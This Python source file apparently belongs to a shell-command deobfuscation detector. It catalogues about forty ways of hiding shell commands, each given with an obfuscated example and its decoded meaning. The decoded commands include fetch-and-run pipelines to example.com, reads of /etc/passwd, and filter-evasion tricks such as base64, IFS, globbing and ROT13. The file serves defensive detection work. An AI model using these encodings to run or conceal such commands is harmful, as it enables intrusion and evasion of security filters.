"""The ways of hiding that the shell reader undoes, each with an inert example."""

from __future__ import annotations

from vedette.commands.base import Method
from vedette.schema.command import Language

_SH = Language.SH


def _method(id_: str, title: str, example: str, shows: str, note: str = "") -> Method:
    return Method(id_, title, _SH, example, shows, note)


METHODS: tuple[Method, ...] = (
    _method(
        "base64",
        "Base64 in a pipe",
        "echo Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5jb20vYS5zaA== | base64 -d | bash",
        "curl -s http://example.com/a.sh",
        "base64, openssl base64 and basenc, with their options.",
    ),
    _method(
        "base32",
        "Base32 in a pipe",
        'bash -c "$(echo MNQXIIBPMV2GGL3QMFZXG53E | base32 -d)"',
        "cat /etc/passwd",
    ),
    _method(
        "hex",
        "Hexadecimal digits",
        "xxd -r -p <<< 6964202d75 | sh",
        "id -u",
        "xxd with -r, with or without -p.",
    ),
    _method(
        "gzip",
        "Compressed and encoded",
        "echo H4sIAAAAAAAAA0suLcpR0C1WyCgpKbDS10+tSMwtyEnVS87P1U+vAgC/93PDHQAAAA== | base64 -d | gunzip | sh",
        "curl -s http://example.com/gz",
    ),
    _method(
        "bzip2",
        "Compressed with bzip2",
        "echo QlpoOTFBWSZTWeakgaoAAAKZgEAAAAgkYoCAIAAxBkxBDQNqK3whh4u5IpwoSHNSQNUA | base64 -d | bunzip2 | sh",
        "id; whoami",
    ),
    _method(
        "xz",
        "Compressed with xz",
        "echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAJaWQ7IHdob2FtaQAAAH6uxrdvqLsSAAEiChUa4WcftvN9AQAAAAAEWVo="
        " | base64 -d | unxz | sh",
        "id; whoami",
    ),
    _method("rev", "Written backwards", "echo 'dwssap/cte/ tac' | rev | sh", "cat /etc/passwd"),
    _method(
        "substitution",
        "Letters exchanged",
        "echo 'phey -f uggc://rknzcyr.pbz/n' | tr a-zA-Z n-za-mN-ZA-M | sh",
        "curl -s http://example.com/a",
        "tr with ranges, classes and escapes, such as ROT13.",
    ),
    _method("delete", "Letters put in between", "echo 'c@at@ /@etc/h@osts' | tr -d @ | sh", "cat /etc/hosts"),
    _method("replace", "Placeholders replaced", "echo 'wXXget http://example.org/x' | sed 's/XX//' | sh", "wget http"),
    _method(
        "index-pick",
        "Picked out of more",
        "echo 'a:cat /etc/group:b' | cut -d: -f2 | sh",
        "cat /etc/group",
        "cut, head, tail, expr substr.",
    ),
    _method("char-codes", "Characters as numbers", "echo -e '\\x69\\x64' | sh", "id"),
    _method("printf", "Built by printf", "eval \"$(printf '\\167\\150\\157\\141\\155\\151')\"", "whoami"),
    _method(
        "arithmetic",
        "Numbers undone by arithmetic",
        'for i in 107 102; do c+=$(printf "\\\\$(printf %o $((i^2)))"); done; eval "$c"',
        "id",
        "Loops over known words are gone through.",
    ),
    _method(
        "ansi-c", "Characters as numbers in $'…'", "$'\\x63\\x75rl' http://example.net/x", "curl http://example.net/x"
    ),
    _method("quote-splitting", "Quotes inside words", "w'h'o\"am\"i; cu''rl http://example.com", "whoami; curl http"),
    _method("backslash", "Backslashes inside words", "c\\a\\t /e\\tc/pa\\s\\swd", "cat /etc/passwd"),
    _method("ifs", "IFS in place of blanks", "cat${IFS}/etc/passwd;wget$IFS$9http://example.com/a", "cat /etc/passwd"),
    _method(
        "brace-expansion", "Braces in place of blanks", "{curl,-s,http://example.com/b}", "curl -s http://example.com/b"
    ),
    _method("glob", "Patterns in place of names", "/???/b??h -c 'id'; /bin/c?t /e??/p?ss?d", "/bin/cat /etc/passwd"),
    _method(
        "empty-variable",
        "Empty expansions inside words",
        "wh$@oami; cat$u /etc$u/passwd$u; c$()url http://example.com",
        "whoami; cat /etc/passwd; curl http://example.com",
    ),
    _method(
        "variable", "Put together from variables", "a=cu;b=rl;$a$b http://example.com/c", "curl http://example.com/c"
    ),
    _method(
        "concatenation",
        "Variables that grow",
        "x=ca;x+='t /etc';x+=/hosts;eval \"$x\"",
        "cat /etc/hosts",
    ),
    _method(
        "parameter-expansion",
        "Substrings and replacements",
        "x=xcatx;y=${x#x};${y%x} ${z:-/etc/hosts}; v=WHOAMI;${v,,}; p=i-d;${p//-/}",
        "cat /etc/hosts; whoami; id",
        "Every form of ${…}, arrays too.",
    ),
    _method(
        "environment-substring", "Letters of the environment", "cat ${PATH:0:1}etc${HOME:0:1}passwd", "cat /etc/passwd"
    ),
    _method("indirection", "Names in variables", "cmd=whoami;ref=cmd;${!ref}", "whoami"),
    _method("command-substitution", "Written by another command", "$(echo who)$(echo ami)", "whoami"),
    _method("array", "Picked out of an array", 'a=(d i);eval "${a[1]}${a[0]} -u"', "id -u"),
    _method("here-string", "Given as a here-string", "bash<<<'cat /etc/hosts'", "cat /etc/hosts"),
    _method("process-substitution", "Given as a process substitution", "bash <(printf '\\x69\\x64')", "id"),
    _method("alias", "Behind an alias", "alias go='curl -s'; go http://example.com/d", "curl -s http://example.com/d"),
    _method("function", "Behind a function", 'f(){ eval "$(echo $1|rev)"; }; f imaohw', "whoami"),
    _method("trap", "Run at the end", "trap 'cat /etc/hosts' EXIT", "cat /etc/hosts"),
    _method(
        "written-file",
        "Written, then run",
        "echo aWQ= | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x",
        "id",
    ),
    _method("nested-interpreter", "Handed to another shell", "eval 'sh -c \"cat /etc/hosts\"'", "cat /etc/hosts"),
    _method(
        "aes",
        "Encrypted, with the password beside it",
        "echo U2FsdGVkX18VKTVob9d6j3SFHTGr//uHBbKkcFbLmys= | openssl enc -d -aes-256-cbc -a -A -pbkdf2 -k secret | sh",
        "cat /etc/hosts",
    ),
    _method("tac", "Lines in reverse order", "printf 'echo two\\necho one\\n' | tac | sh", "echo one\necho two"),
    _method("join", "Lines joined", "printf 'i\\nd\\n' | paste -sd '' | sh", "id"),
    _method("uuencode", "Uuencoded", "printf 'begin 644 -\\n#:60*\\n`\\nend\\n' | uudecode -o /dev/stdout | sh", "id"),
)
